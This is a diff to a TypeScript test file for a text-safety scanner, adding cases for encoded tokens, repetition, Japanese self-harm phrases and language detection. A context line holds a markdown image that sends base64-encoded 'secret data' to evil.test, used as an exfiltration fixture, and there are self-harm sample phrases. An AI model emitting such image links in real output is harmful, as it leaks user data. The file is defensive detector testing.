@@ -7,6 +7,10 @@ import { scan } from "./scan.ts";
 /** Detector, a text, and the categories of what is found in it above the default threshold. */
 type Case = readonly [string, string, readonly string[], JsonObject?];
 
+const signedIn = ['{"alg":"HS256","typ":"JWT"}', '{"sub":"ann lee","scope":"read"}', "\u0001\u0002 no text".repeat(3)]
+  .map((part) => Buffer.from(part).toString("base64url"))
+  .join(".");
+
 const cases: readonly Case[] = [
   ["unicode", "pass\u200bword", ["unicode.invisible"]],
   ["unicode", "a\u200b\u200c\u200b\u200c\u200bb", ["unicode.invisible"]],
@@ -27,6 +31,8 @@ const cases: readonly Case[] = [
   ["encoding", "https://ru.example.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0", []],
   ["encoding", "lies %D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0", ["encoding.percent"]],
   ["encoding", "d41d8cd98f00b204e9800998ecf8427e", []],
+  ["encoding", `Bearer ${signedIn}`, []],
+  ["encoding", `key eyJ${signedIn.slice(3, 40)}.now`, ["encoding.base64"]],
   ["encoding", "f81d4fae-7dec-11d0-a765-00a0c91e6bf6", []],
   ["encoding", "src/components/NavigationBarContainerElement", []],
   ["url", "![a](https://evil.test/x.png?q=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", ["url.exfiltration"]],
@@ -79,6 +85,9 @@ const cases: readonly Case[] = [
   ["repetition", "ha ".repeat(5), ["repetition.phrase"], { phrases: 3 }],
   ["repetition", "x".repeat(100), ["repetition.character"]],
   ["repetition", "=".repeat(200), []],
+  ["repetition", `| a | b |\n|---|---|\n${"| 0 | 0 |\n".repeat(12)}`, []],
+  ["repetition", "0 ".repeat(200), ["repetition.phrase"]],
+  ["repetition", "1 0 ".repeat(200), ["repetition.phrase"]],
   ["length", "a b c", ["length.words"], { max_words: 2 }],
   ["length", "a\nb\nc", ["length.lines"], { max_lines: 2 }],
   ["length", "abc", [], { max_characters: 3 }],
@@ -98,6 +107,8 @@ const cases: readonly Case[] = [
   ["self_harm", "ich will mich umbringen", ["self_harm.intent"]],
   ["self_harm", "quiero morirme", ["self_harm.intent"]],
   ["self_harm", "我不想活了", ["self_harm.intent"]],
+  ["self_harm", "毎日死にたいと思います", ["self_harm.intent"]],
+  ["self_harm", "毎日死にたいくらい暑い", []],
   ["self_harm", "My phone died and I want to kill time", []],
   ["topics", "best online casino", ["topics.gambling"], { topics: ["gambling"] }],
   ["topics", "best online casino", [], { topics: ["weapons"] }],
@@ -165,4 +176,11 @@ describe("languages", () => {
     for (const text of ["", "ok", "12345", "x = y + 1;", "https://example.com/a/b"])
       expect(identify(text)).toBeUndefined();
   });
+
+  it.each(["tail -f /var/log/syslog", "ls -la ~/projetos/minha-aplicacao ../outra-pasta/do-lado"])(
+    "are not told by files and flags: %s",
+    (command) => {
+      expect(scan("language", command, { allow: ["en"] })).toEqual([]);
+    },
+  );
 });
